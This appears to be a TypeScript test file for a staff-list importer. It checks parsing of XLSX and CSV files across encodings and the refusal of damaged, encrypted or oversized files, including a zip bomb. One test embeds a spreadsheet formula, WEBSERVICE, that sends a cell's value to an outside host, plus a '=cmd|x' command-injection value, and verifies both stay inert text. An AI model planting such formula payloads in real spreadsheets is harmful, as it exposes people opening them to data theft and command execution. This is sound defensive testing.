/** A spreadsheet of new people, in every form that offices have, and hostile ones. */
import { compoundFile, workbookParts, writeCsv, writeWorkbook, zip } from '@kean/collection/testing';
import { AppError } from '@kean/kernel';
import { describe, expect, it } from 'vitest';
import { readList } from './read-list.ts';

const LIN = {
  staffNumber: 'S0101',
  displayName: '林晚',
  mail: 'lin.wan@office.example',
  branchCode: 'B-01',
  roleCode: 'agent',
};
const ZHOU = {
  staffNumber: '',
  displayName: '周砚',
  mail: 'zhou.yan@office.example',
  branchCode: 'B-01',
  roleCode: '',
};
const HEADERS = ['姓名', '工作邮箱', '岗位代码', '工号', '门店编号', '备注'];
const ROWS = [
  ['林晚', 'lin.wan@office.example', 'agent', 'S0101', 'B-01', '三月入职'],
  ['周砚', 'zhou.yan@office.example', '', '', 'B-01', ''],
];
const LIST = { headers: HEADERS, rows: ROWS };

async function* pieces(bytes: Uint8Array) {
  for (let at = 0; at < bytes.length; at += 997) yield bytes.subarray(at, at + 997);
}
const read = async (bytes: Uint8Array) => (await readList(pieces(bytes))).people;
const refusal = (bytes: Uint8Array): Promise<string> =>
  read(bytes).then(
    () => 'was read',
    (error: unknown) => (error instanceof AppError ? error.code : String(error)),
  );
const sheet = (rows: string) => `<worksheet><sheetData>${rows}</sheetData></worksheet>`;
const text = (place: string, words: string) => `<c r="${place}" t="inlineStr"><is><t>${words}</t></is></c>`;

describe('a spreadsheet of new people', () => {
  it.each([
    ['a workbook', () => writeWorkbook(LIST)],
    ['a workbook of a program that streams', () => writeWorkbook(LIST, { inlineTexts: true })],
    ['UTF-8', async () => writeCsv(LIST, 'utf-8')],
    ['UTF-8 with its mark', async () => writeCsv(LIST, 'utf-8-bom')],
    ['GBK', async () => writeCsv(LIST, 'gb18030')],
    ['semicolons', async () => writeCsv(LIST, 'utf-8', ';')],
    [
      'UTF-16, as "Unicode text"',
      async () => Buffer.from(`\ufeff${writeCsv(LIST, 'utf-8', '\t').toString()}`, 'utf16le'),
    ],
    [
      'UTF-16 the other way round',
      async () => Buffer.from(`\ufeff${writeCsv(LIST, 'utf-8', '\t').toString()}`, 'utf16le').swap16(),
    ],
  ])('is read by the names of its columns, whatever stands beside them: %s', async (_form, write) => {
    expect(await read(await write())).toEqual([LIN, ZHOU]);
  });

  it('without headings is read in the order that the page names', async () => {
    const rows = [['S0101', '林晚', 'lin.wan@office.example', 'B-01', 'agent']];
    const csv = rows.map((row) => row.join(',')).join('\n');
    expect(await read(Buffer.from(csv))).toEqual([LIN]);
  });

  it('reckons no formula: a cell is the text that it was last seen to show, and a text that looks like one stays text', async () => {
    const formula = '<c r="A2" t="str"><f>WEBSERVICE("http://x.example/"&amp;B2)</f><v>林晚</v></c>';
    const rows = `<row r="1">${text('A1', '姓名')}${text('B1', '邮箱')}</row><row r="2">${formula}${text('B2', '=cmd|x')}</row>`;
    expect(await read(zip(workbookParts(sheet(rows))))).toMatchObject([{ displayName: '林晚', mail: '=cmd|x' }]);
  });

  it('has a row of one line for each person, whatever its cells hold', async () => {
    const list = { headers: ['姓名', '邮箱'], rows: [['林\n晚\t', ' lin.wan@office.example ']] };
    expect(await read(writeCsv(list, 'utf-8'))).toMatchObject([
      { displayName: '林 晚', mail: 'lin.wan@office.example' },
    ]);
  });

  it.each([
    ['an old workbook', () => compoundFile(false), 'COLLECTION_FILE_OLD_WORKBOOK'],
    ['a workbook under a password', () => compoundFile(true), 'COLLECTION_FILE_ENCRYPTED'],
    ['a picture', () => Buffer.from('89504e470d0a1a0a00', 'hex'), 'COLLECTION_FILE_KIND_UNKNOWN'],
    ['nothing', () => Buffer.alloc(0), 'COLLECTION_FILE_EMPTY'],
    ['half a character', () => Buffer.from('姓名,邮箱\n林').subarray(0, -1), 'COLLECTION_ENCODING_UNREADABLE'],
    ['half a UTF-16', () => Buffer.from('fffe41', 'hex'), 'COLLECTION_ENCODING_UNREADABLE'],
    [
      'a workbook cut in the middle',
      () => zip(workbookParts(sheet('<row/>'))).subarray(0, 400),
      'COLLECTION_FILE_DAMAGED',
    ],
    ['headings and nobody', () => Buffer.from('姓名,邮箱\n'), 'PERSONNEL_LIST_NOBODY'],
    ['more people than a list takes', () => Buffer.from(`姓名,邮箱\n${'林晚,x\n'.repeat(501)}`), 'PERSONNEL_LIST_LONG'],
    ['more bytes than a list has', () => Buffer.alloc(513 * 1024, 'x'), 'PERSONNEL_LIST_LARGE'],
    [
      'a workbook that swells',
      () => zip(workbookParts('', { 'xl/worksheets/sheet1.xml': Buffer.alloc(20 * 1024 * 1024, ' ') })),
      'COLLECTION_FILE_UNPACKS_TOO_LARGE',
    ],
  ])('is refused, saying why, where it is %s', async (_what, make, code) => {
    expect(await refusal(make())).toBe(code);
  });

  it('that breaks off on its way is no list', async () => {
    async function* cut() {
      yield Buffer.from('姓名,邮箱\n林晚,');
      throw new Error('the line is cut');
    }
    await expect(readList(cut())).rejects.toThrow('the line is cut');
  });
});
